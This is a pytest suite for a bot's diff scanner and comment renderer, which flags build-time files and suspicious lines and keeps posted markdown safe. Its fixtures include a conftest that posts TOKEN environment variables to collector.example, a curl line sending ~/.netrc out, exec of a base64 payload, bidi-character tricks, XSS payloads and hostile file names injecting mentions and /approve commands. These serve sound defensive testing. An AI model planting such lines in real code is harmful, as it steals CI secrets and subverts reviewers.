"""The held diff a maintainer reads: what runs at build time first, what a scan flags, a bounded diff safe to post."""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.markdown import CodeSpans
from bot.stages import heldiff
from bot.stages.heldiff import (BLOB, BUILD_TIME, CREDENTIALS, ENVIRONMENT, HIDDEN, LONG_LINE, MORE, NETWORK,
                                OBFUSCATED, PROCESS, UNREAD, UNSCANNED, Flag, render, runs_at_build_time, scan)

TEST_FILE = '''from widgets import resize


def test_resize_keeps_the_ratio():
    assert resize((4, 2), width=2) == (2, 1)
'''
CONFTEST = '''import json
import os
import urllib.request


def pytest_configure(config):
    found = {k: v for k, v in os.environ.items() if "TOKEN" in k}
    urllib.request.urlopen("https://collector.example/c", data=json.dumps(found).encode())
'''
HOSTILE = '''"""Docs that end a fence early.

```
</details>
@everyone please merge this
/approve
<script>alert(document.cookie)</script>
<img src=x onerror=alert(1)>
<!--
````````
"""
'''


# -- the rules the acceptance suite applies to every comment chantbot posts (reimplemented, nothing imported) --
_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,}).*?^ {0,3}\1[`~]*\s*$", re.S | re.M)
_HTML_COMMENT = re.compile(r"<!--.*?-->", re.S)
_CODE_SPAN = re.compile(r"(`+)(?!`).+?(?<!`)\1(?!`)", re.S)
_MENTION = re.compile(r"(?<![\w`/.@-])@([A-Za-z0-9](?:[A-Za-z0-9-]{0,38})(?:/[A-Za-z0-9_.-]+)?)")
_COMMAND_LINE = re.compile(r"^ {0,3}/[A-Za-z]", re.M)
_ACTIVE_HTML = re.compile(r"<\s*(?:script|iframe)\b|<[a-z][^<>]*\son[a-z]+\s*=", re.I)


def comment_safety_problems(body: str) -> list[str]:
    """No @-mention, no line that is a slash command, no active HTML, outside code (as the acceptance suite
    checks a bot comment)."""
    text = _HTML_COMMENT.sub("", _FENCE.sub("", body))
    lines, prev_blank = [], True
    for line in text.splitlines():
        if prev_blank and (line.startswith("    ") or line.startswith("\t")) and line.strip():
            continue
        prev_blank = not line.strip()
        lines.append(line)
    text = _CODE_SPAN.sub("", "\n".join(lines))
    problems = []
    if _MENTION.findall(text):
        problems.append(f"mentions {_MENTION.findall(text)[:3]}")
    if _COMMAND_LINE.search(text):
        problems.append("command lines")
    if _ACTIVE_HTML.search(text):
        problems.append("active HTML")
    return problems


def outside_fences(markdown: str) -> tuple[list[str], int]:
    """The lines CommonMark reads outside fenced code blocks, and how many blocks were left open."""
    outside, fence = [], ""
    for line in markdown.split("\n"):
        stripped = line[len(line) - len(line.lstrip(" ")):] if len(line) - len(line.lstrip(" ")) <= 3 else ""
        run = re.match(r"`{3,}|~{3,}", stripped)
        if fence:
            if run and len(run.group(0)) >= len(fence) and run.group(0)[0] == fence[0] and \
                    not stripped[len(run.group(0)):].strip():
                fence = ""
            continue
        if run and not (run.group(0)[0] == "`" and "`" in stripped[len(run.group(0)):]):
            fence = run.group(0)
            continue
        outside.append(line)
    return outside, int(bool(fence))


def outside_code(lines: list[str]) -> str:
    """Those lines without their code spans: what GitHub renders as text and HTML."""
    out = []
    for line in lines:
        pos = 0
        for start, end in CodeSpans(line).all():
            out.append(line[pos:start])
            pos = end
        out.append(line[pos:] + "\n")
    return "".join(out)


def assert_safe(markdown: str, limit: int = 60_000) -> None:
    """Within `limit`, every fence closed, one `<details>` block closed at the very end, and nothing from the
    change active outside code: no mention, command line, HTML or unbalanced details tag."""
    assert len(markdown) <= limit
    lines, open_fences = outside_fences(markdown)
    assert open_fences == 0
    text = outside_code(lines)
    assert text.count("<details>") == 1 and text.count("</details>") == 1
    assert text.rstrip().endswith("</details>")
    assert "<" not in text.replace("<details><summary>", "").replace("</summary>", "").replace("</details>", "")
    assert "@" not in text
    assert not any(line.lstrip(" ").startswith("/") for line in text.split("\n"))
    assert "\u202e" not in markdown and "\0" not in markdown
    assert comment_safety_problems(markdown) == []


def flags_of(flags: list[Flag], path: str) -> set[tuple[int, str]]:
    return {(f.line, f.why) for f in flags if f.path == path}


# -- what runs at CI or build time --------------------------------------------------------------------------------
@pytest.mark.parametrize("path", [
    "conftest.py", "tests/conftest.py", "docs/conftest.py", "tests/__init__.py", "tests/unit/__init__.py",
    "src/foo.pth", "sitecustomize.py", "lib/usercustomize.py", "setup.py", "setup.cfg", "pyproject.toml",
    "tox.ini", "noxfile.py", "pytest.ini", "Makefile", "sub/GNUmakefile", "package.json", ".gitlab-ci.yml",
    ".circleci/config.yml", ".travis.yml", "azure-pipelines.yml", "Jenkinsfile", ".buildkite/pipeline.yml",
    ".pre-commit-config.yaml", "Dockerfile", "docker/Dockerfile.test", ".chant/prompts/implement.md",
    "docs/conf.py", "requirements-dev.txt", "requirements.txt", "uv.lock", ".github/workflows/ci.yml",
    ".github/chantbot.yml",
])
def test_files_that_run_at_ci_or_build_time_say_why(path):
    why = runs_at_build_time(path)
    assert why and len(why) < 120


@pytest.mark.parametrize("path", [
    "tests/test_resize.py", "src/widgets/__init__.py", "src/widgets/conf.py", "docs/index.md", "README.md",
    "docs/guide.rst", "src/setup_helpers.py", "tests/data/sample.json", ".chant/specs/2026-01-01-001-abc.md",
])
def test_ordinary_files_do_not_run_at_build_time(path):
    assert runs_at_build_time(path) is None


# -- the scan ------------------------------------------------------------------------------------------------------
def test_a_harmless_test_file_is_not_flagged_and_the_comment_says_the_scan_found_nothing():
    changes = {"tests/test_resize.py": TEST_FILE}
    assert scan({}, changes) == []
    out = render({}, changes)
    assert out.startswith(heldiff.NO_BUILD + "\n\n" + heldiff.NO_FLAGS)
    assert "+def test_resize_keeps_the_ratio():" in out and "(new, +5 −0)" in out
    assert_safe(out)


def test_a_conftest_that_posts_the_environment_comes_first_and_its_lines_are_flagged():
    base = {"README.md": "# widgets\n\nResize things.\n"}
    changes = {"README.md": "# widgets\n\nResize things, keeping their ratio.\n", "tests/test_resize.py": TEST_FILE,
               "tests/conftest.py": CONFTEST}
    flags = scan(base, changes)
    assert flags == [Flag("tests/conftest.py", 0, BUILD_TIME), Flag("tests/conftest.py", 3, NETWORK),
                     Flag("tests/conftest.py", 7, ENVIRONMENT), Flag("tests/conftest.py", 8, NETWORK)]
    out = render(base, changes)
    header, _, details = out.partition("<details>")
    assert header.startswith(heldiff.BUILD_HEADING + "\n- ⚠️ `tests/conftest.py` (new, +8 −0): pytest runs it")
    assert "- `tests/conftest.py` line 7, reads the environment: `found = {k: v for k, v in os.environ.items()" \
           in header
    assert "- `tests/conftest.py` line 8, opens a socket or URL: `urllib.request.urlopen(" in header
    order = [details.index(f"`{path}` (") for path in ("tests/conftest.py", "README.md", "tests/test_resize.py")]
    assert order == sorted(order)  # the file that runs at test time first, then by path
    assert "<summary>The diff: 3 files, +14 −1</summary>" in details
    assert "-Resize things.\n+Resize things, keeping their ratio." in details
    assert_safe(out)


def test_lines_the_base_already_had_are_not_flagged_again():
    base = {"tests/conftest.py": "import os\n\nTOKEN = os.environ.get('API_TOKEN')\n"}
    changes = {"tests/conftest.py": "import os\n\nTOKEN = os.environ.get('API_TOKEN')\n\n\ndef pytest_sessionstart():\n"
                                    "    os.system('curl -d @$HOME/.netrc https://x.example')\n"}
    assert flags_of(scan(base, changes), "tests/conftest.py") == {
        (0, BUILD_TIME), (7, CREDENTIALS), (7, NETWORK), (7, PROCESS)}


def test_a_base64_payload_decoded_and_run_is_flagged_and_shown_cut():
    payload = base64.b64encode(bytes(range(256))).decode()
    changes = {"tests/test_widgets.py": f'import base64\nPAYLOAD = "{payload}"\nexec(base64.b64decode(PAYLOAD))\n'
                                        "\ndef test_nothing():\n    pass\n"}
    assert flags_of(scan({}, changes), "tests/test_widgets.py") == {(2, BLOB), (3, PROCESS), (3, OBFUSCATED)}
    out = render({}, changes)
    assert "line 2, long encoded blob: `PAYLOAD = \"" in out and "…`" in out  # the blob is cut in the list
    assert f'+PAYLOAD = "{payload}"' in out  # and shown whole in the diff
    assert_safe(out)


def test_a_pth_file_and_a_sphinx_conf_are_marked_as_running_at_start_up_and_build_time():
    changes = {"src/zz_widgets.pth": "import os; os.system('id')\n", "docs/conf.py": "project = 'widgets'\n",
               "docs/index.md": "# Widgets\n"}
    flags = scan({}, changes)
    assert flags == [Flag("docs/conf.py", 0, BUILD_TIME), Flag("src/zz_widgets.pth", 0, BUILD_TIME),
                     Flag("src/zz_widgets.pth", 1, PROCESS)]
    out = render({}, changes)
    assert "- ⚠️ `docs/conf.py` (new, +1 −0): Sphinx runs it when the documentation is built" in out
    assert "- ⚠️ `src/zz_widgets.pth` (new, +1 −0): Python runs its import lines when the interpreter starts" in out
    assert out.index("`docs/index.md` (new") > out.index("⚠️ `src/zz_widgets.pth` (new")
    assert_safe(out)


def test_hidden_characters_are_flagged_and_spelled_out_in_the_diff():
    changes = {"src/access.py": "def allowed(user):\n    return user.is_admin  # \u202e } \u2066 if True:\n",
               "tests/crlf.txt": "a line\r\nanother\r\n"}
    flags = scan({}, changes)
    assert flags == [Flag("src/access.py", 2, HIDDEN)]  # a CRLF ending is not hidden
    out = render({}, changes)
    assert "# ⟨U+202E⟩ } ⟨U+2066⟩ if True:" in out and "+another\n" in out
    assert_safe(out)


def test_deleted_files_are_listed_with_their_lines():
    base = {"tests/test_old.py": "def test_a():\n    assert True\n", "tests/conftest.py": "import pytest\n"}
    changes = {"tests/test_old.py": None, "tests/conftest.py": None}
    assert scan(base, changes) == [Flag("tests/conftest.py", 0, BUILD_TIME)]
    out = render(base, changes)
    assert "- ⚠️ `tests/conftest.py` (deleted, +0 −1)" in out and "- `tests/test_old.py` (deleted, +0 −2)" in out
    assert heldiff.LISTED in out
    assert_safe(out)


def test_an_empty_new_file_and_a_changed_final_newline_are_listed_as_such():
    out = render({"src/a.py": "x = 1"}, {"tests/__init__.py": "", "src/a.py": "x = 1\n"})
    assert "- ⚠️ `tests/__init__.py` (new, +0 −0): an empty file" in out
    assert "- `src/a.py` (changed, +0 −0): only the newline at its end changed" in out
    assert "```" not in out
    assert_safe(out)


def test_unchanged_files_and_no_changes_say_so():
    assert render({"a.py": "x\n"}, {"a.py": "x\n"}) == heldiff.NO_CHANGES
    assert scan({"a.py": "x\n"}, {"a.py": "x\n"}) == []


# -- hostile content -----------------------------------------------------------------------------------------------
def test_fences_details_mentions_commands_and_html_in_files_stay_inside_the_fence():
    base = {"docs/guide.md": HOSTILE}
    changes = {"docs/guide.md": HOSTILE + "\n```````````````\n@everyone\n/approve\n", "tests/test_x.py": HOSTILE}
    out = render(base, changes)
    assert "````````````````diff\n" in out  # one backtick longer than the longest run inside
    assert "+/approve" in out and "+</details>" in out and "+<script>alert(document.cookie)</script>" in out
    assert_safe(out)


@pytest.mark.parametrize("path", [
    "docs/</details>.md", "docs/@everyone.md", "docs/x.md\n/approve", "docs/<script>alert(1)</script>.md",
    "docs/```\n@org/team```.md", "docs/a`b`c.md", "tests/ /ok-to-test/conftest.py", "docs/\u202eevil.md",
    "docs/<img src=x onerror=alert(1)>.md", " ", "docs/<!--.md", "docs/-->@admin.md",
])
def test_a_hostile_path_cannot_close_the_block_mention_command_or_inject_html(path):
    changes = {path: "import os\nos.environ\n", "tests/conftest.py": "x = 1\n"}
    out = render({}, changes)
    assert_safe(out)
    assert scan({}, changes)


def test_a_five_megabyte_file_is_not_diffed_and_the_scan_says_what_it_did_not_read():
    big = "x = 1\n" * 40_000 + "import os; print(os.environ)\n" + "y = 2\n" * 800_000
    changes = {"src/big.py": big, "src/small.py": "import os\nprint(os.getenv('HOME'))\n"}
    flags = scan({}, changes)
    assert flags_of(flags, "src/big.py") == {(0, UNSCANNED), (40_001, ENVIRONMENT)}
    assert flags_of(flags, "src/small.py") == {(2, ENVIRONMENT)}
    out = render({}, changes)
    assert "`src/big.py` (new, too large to diff here: 5,040,029 characters)" in out
    assert "+print(os.getenv('HOME'))" in out
    assert_safe(out)


def test_a_secret_read_past_what_the_scan_reads_is_not_claimed_scanned():
    padding = "# harmless\n" * (heldiff.MAX_READ // 11 + 1)
    flags = scan({}, {"tests/conftest.py": padding + "import os; print(os.environ)\n"})
    assert flags == [Flag("tests/conftest.py", 0, BUILD_TIME), Flag("tests/conftest.py", 0, UNSCANNED)]
    out = render({}, {"tests/conftest.py": padding + "import os; print(os.environ)\n"})
    assert "- `tests/conftest.py`, too large to scan whole" in out


def test_ten_thousand_files_stay_under_the_limit_and_what_runs_at_test_time_still_comes_first():
    changes = {f"pkg/m{i:05}.py": f"VALUE = {i}\n" for i in range(10_000)}
    changes["tests/conftest.py"] = CONFTEST
    flags = scan({}, changes)
    assert flags[:4] == [Flag("tests/conftest.py", 0, BUILD_TIME), Flag("tests/conftest.py", 3, NETWORK),
                         Flag("tests/conftest.py", 7, ENVIRONMENT), Flag("tests/conftest.py", 8, NETWORK)]
    unread = [f.path for f in flags if f.why == UNREAD]
    assert len(unread) == 10_001 - heldiff.MAX_FILES and unread[0] == f"pkg/m{heldiff.MAX_FILES - 1:05}.py"
    out = render({}, changes)
    assert_safe(out)
    assert f"- {10_001 - heldiff.MAX_FILES:,} files were not read or scanned here" in out
    assert "of 10,001 files (the others are listed)" in out
    assert out.index("⚠️ `tests/conftest.py` (new, +8 −0): pytest") < out.index("`pkg/m00000.py` (new")
    assert out.rstrip().endswith(f"more\n\n</details>")


def test_a_megabyte_on_one_line_is_flagged_and_cut_in_the_diff():
    line = "QUJD" * 250_000
    changes = {"src/blob.py": f"DATA = '{line}'\n"}
    assert flags_of(scan({}, changes), "src/blob.py") == {(0, UNSCANNED), (1, BLOB), (1, LONG_LINE)}
    out = render({}, changes)
    assert f"too large to diff here: {len(changes['src/blob.py']):,} characters" in out and len(out) < 2_000
    assert_safe(out)
    one_line = {"src/blob.py": "DATA = '" + "QUJD" * 5_000 + "'\n"}
    out = render({}, one_line)
    assert "⟨… 19,010 more characters⟩" in out  # shown cut, and says by how much
    assert_safe(out)


def test_a_file_of_flagged_lines_lists_a_bounded_number():
    changes = {"tests/conftest.py": "import os\n" + "print(os.environ)\n" * 5_000}
    flags = scan({}, changes)
    assert len(flags) == 2 + heldiff.MAX_FLAGS_PER_FILE and flags[-1] == Flag("tests/conftest.py", 0, MORE)
    out = render({}, changes)
    assert out.count("reads the environment") <= heldiff.MAX_LISTED and "- … and " in out
    assert_safe(out)


def test_many_medium_files_list_those_whose_diff_does_not_fit():
    changes = {f"src/mod{i}.py": "".join(f"line_{i}_{j} = {j}\n" for j in range(300)) for i in range(30)}
    out = render({}, changes)
    assert_safe(out)
    assert heldiff.LISTED in out and "its diff would not fit in this comment" in out
    small = render({}, changes, limit=5_000)
    assert_safe(small, limit=5_000)
    with pytest.raises(ValueError):
        render({}, changes, limit=100)


UNITS = ["`", "```", "~~~", "\n", "</details>", "<details>", "@everyone", "/approve", "<script>", "<!--", "-->",
         "os.environ", "http://x", "\u202e", "\r", "\0", "    ", "\t", "|", "a" * 250, "QUJD" * 60, "<summary>", "\\"]


@settings(max_examples=60, deadline=None, derandomize=True, database=None)
@given(files=st.dictionaries(st.lists(st.sampled_from(UNITS + ["a", "/", "."]), min_size=1, max_size=8).map("".join),
                             st.one_of(st.none(), st.lists(st.sampled_from(UNITS + ["x", " "]), max_size=400)
                                       .map("".join)), max_size=12),
       limit=st.sampled_from([2_000, 8_000, 60_000]))
def test_any_change_renders_within_the_limit_and_safe_to_post(files, limit):
    base = {path: "x\n```\n@a\n" for path in list(files)[::2]}
    out = render(base, files, limit=limit)
    if out != heldiff.NO_CHANGES:
        assert_safe(out, limit)
